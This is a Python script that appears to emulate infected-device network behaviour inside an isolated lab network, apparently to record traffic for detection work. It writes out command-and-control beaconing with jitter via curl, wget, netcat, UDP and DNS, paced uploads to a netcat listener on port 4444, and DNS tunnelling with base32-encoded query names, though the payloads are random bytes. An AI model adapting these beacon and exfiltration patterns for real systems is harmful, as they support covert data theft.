"""Enters: the recording's own Internet (internet.py). Leaves: what an infected device does once it is one: calls home by a
real tool at a period with jitter, and uploads. It must never run where it could reach anything else.

usage: leak.py call TOOL PERIOD_S JITTER SECONDS SEED       JITTER: 0.3 is up to 30 % sooner or later
       leak.py upload TOOL MEGABYTES KIB_PER_S PARTS
       leak.py names KIB_PER_S SECONDS                      text in the names that a resolver is asked for
"""

import base64
import os
import random
import socket
import subprocess
import sys
import tempfile
import time

HOME, RESOLVER = "10.40.9.9", "10.40.0.53"
CALLS = {
    "curl": ["curl", "-s", "-m", "5", "-o", "/dev/null", f"http://{HOME}/bytes/90"],
    "curl-post": ["curl", "-s", "-m", "5", "-o", "/dev/null", "-d", "id=7&state=waiting", f"http://{HOME}:8080/in"],
    "wget": ["wget", "-q", "-T", "5", "-t", "1", "-O", "/dev/null", f"http://{HOME}:443/bytes/400"],
    "netcat": ["sh", "-c", f"printf hello | timeout 2 nc -n -w1 {HOME} 22"],
    "netcat-dead": ["timeout", "3", "nc", "-n", "-z", "-w2", "10.44.3.3", "4444"],
    "three": ["sh", "-c", f"for n in 1 2 3; do curl -s -m 5 -o /dev/null http://{HOME}/bytes/200; done"],
}


def datagram(data, host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(1)
        udp.sendto(data, (host, port))
        try:
            udp.recv(2048)
        except OSError:
            pass


def query(name):
    """A question for a TXT record, as a resolver reads it; the recording's own takes two bytes as the answer's length."""
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return b"\x00\x78\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x10\x00\x01"


def call(tool, rng):
    if tool == "udp":
        datagram(b"\x00\x40" + b"i" * 30, HOME, 3478)
    elif tool == "dns":
        datagram(query(b"%08x.c2.example" % rng.getrandbits(32)), RESOLVER, 53)
    else:
        subprocess.run(CALLS[tool], check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def calls(tool, period, jitter, seconds, seed):
    end, rng, due = time.time() + float(seconds), random.Random(seed), time.time()
    while time.time() < end:
        call(tool, rng)
        due += float(period) * (1 + rng.uniform(-float(jitter), float(jitter)))
        time.sleep(max(0.0, min(due, end) - time.time()))


def upload(tool, megabytes, rate, parts):
    size = int(float(megabytes) * 1e6 / int(parts))
    for part in range(int(parts)):
        name = f"{tempfile.gettempdir()}/leak-{os.getpid()}-{part}"
        with open(name, "wb") as file:
            file.write(os.urandom(size))
        if tool == "curl":
            command = ["curl", "-s", "-o", "/dev/null", "--limit-rate", f"{rate}K", "-T", name, f"http://{HOME}/up"]
            subprocess.run(command, check=False)
        else:
            paced(name, int(rate) * 1024)
        os.unlink(name)


def paced(name, rate):
    """Netcat takes what comes at the rate at which it comes."""
    nc = subprocess.Popen(["nc", "-n", "-N", "-w3", HOME, "4444"], stdin=subprocess.PIPE)
    with open(name, "rb") as file, nc.stdin as pipe:
        while data := file.read(rate // 4):
            pipe.write(data)
            time.sleep(0.25)
    nc.wait(timeout=20)


def names(rate, seconds):
    end, rng, size = time.time() + float(seconds), random.Random(7), 120
    while time.time() < end:
        label = base64.b32encode(rng.randbytes(size)).rstrip(b"=").lower()
        name = b".".join(label[at : at + 60] for at in range(0, len(label), 60)) + b".t.example"
        datagram(query(name), RESOLVER, 53)
        time.sleep(size / (float(rate) * 1024))


if __name__ == "__main__":
    {"call": calls, "upload": upload, "names": names}[sys.argv[1]](*sys.argv[2:])
